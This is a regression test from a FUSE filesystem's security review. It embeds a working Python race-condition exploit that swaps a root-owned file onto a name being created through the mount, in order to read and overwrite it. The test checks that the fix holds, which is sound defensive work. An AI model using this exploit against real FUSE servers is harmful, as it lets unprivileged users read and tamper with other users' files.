// REVIEW (an attacker's reproducer from the security review of the descriptor
// core; failed before the fix named below, passes since).
//
// FUSE CREATE comes after the kernel's LOOKUP found no such name, so the
// kernel checked only that the caller may add a name to the directory. When
// the name exists by the time the server's openat(O_CREAT|O_EXCL) runs,
// PassthroughBackend.create() looks it up and opens the existing file with
// the client's flags, as root, with no permission check. A user who can
// also write SRC moves someone else's file onto the name in that window and
// gets a read-write descriptor on it (here a root-owned 0600 file in a
// shared 0777 directory, as on any group share).
//
// Fix suggested (and done): on EEXIST without O_EXCL, do not open on the client's
// behalf; answer EEXIST (the kernel then retries as a LOOKUP + OPEN, which
// the kernel checks with default_permissions), or check access for the
// caller's uid/gids on the inode found before opening it.
import { chmod, lstat, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import test from 'ava';
import { canMount, mountFixture } from '../helpers/mount-fixture.js';
import { run } from '../helpers/run.js';

const gate = await canMount('fuse');
const serial = gate.ok ? test.serial : test.serial.skip;
const why = gate.ok ? '' : ` (skipped: ${gate.reason})`;
const UID = 64232;

// Thread B flips the victim onto the current fresh name and back (renameat2
// RENAME_NOREPLACE: it never clobbers anything, so the victim is never lost);
// thread A opens that name through the mount with O_CREAT|O_RDWR.
const ATTACK = String.raw`
import ctypes, os, sys, threading, time
mnt, src, uid, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
libc = ctypes.CDLL(None, use_errno=True)
def rn(a, b): return libc.renameat2(-100, a.encode(), -100, b.encode(), 1) == 0
victim = os.path.join(src, 'victim')
cur = [None]; stop = [False]
def flipper():
    while not stop[0]:
        name = cur[0]
        if name is None: continue
        p = os.path.join(src, name)
        if rn(victim, p): rn(p, victim)
t = threading.Thread(target=flipper, daemon=True); t.start()
end = time.time() + secs; i = 0; won = None
while time.time() < end and not won:
    i += 1; name = 'x%d' % i
    cur[0] = name
    try: fd = os.open(os.path.join(mnt, name), os.O_CREAT | os.O_RDWR, 0o600)
    except OSError: continue
    cur[0] = None
    data = os.pread(fd, 100, 0)
    if data.startswith(b'SECRET'):
        os.pwrite(fd, b'PWNED!', 0)
        won = data
    os.close(fd)
    if not won:
        try: os.unlink(os.path.join(mnt, name))
        except OSError: pass
stop[0] = True; t.join()
print('WON after %d tries, read %r and wrote it' % (i, won) if won else 'lost %d tries' % i)
`;

serial(`review: a user who also writes SRC cannot open another user's file read-write by racing CREATE${why}`, async (t) => {
  const fx = await mountFixture(t, 'fuse', { options: ['allow_other'] });
  await chmod(fx.dir, 0o755);
  const shared = join(fx.src, 'shared');
  await mkdir(shared);
  await chmod(shared, 0o777);
  await writeFile(join(shared, 'victim'), 'SECRET of root');
  await chmod(join(shared, 'victim'), 0o600);
  const r = await run('setpriv', [`--reuid=${UID}`, `--regid=${UID}`, '--clear-groups', '/usr/bin/python3', '-c', ATTACK, join(fx.mnt, 'shared'), shared, String(UID), '40'], { timeoutMs: 90_000 });
  t.log(r.stdout.trim(), r.stderr.trim());
  // The flipper may have left it at a fresh name for an instant only: it is back now.
  t.is((await lstat(join(shared, 'victim'))).uid, 0);
  t.is(await readFile(join(shared, 'victim'), 'utf8'), 'SECRET of root', `the attacker must neither read nor write it (attacker: ${r.stdout.trim()})`);
});
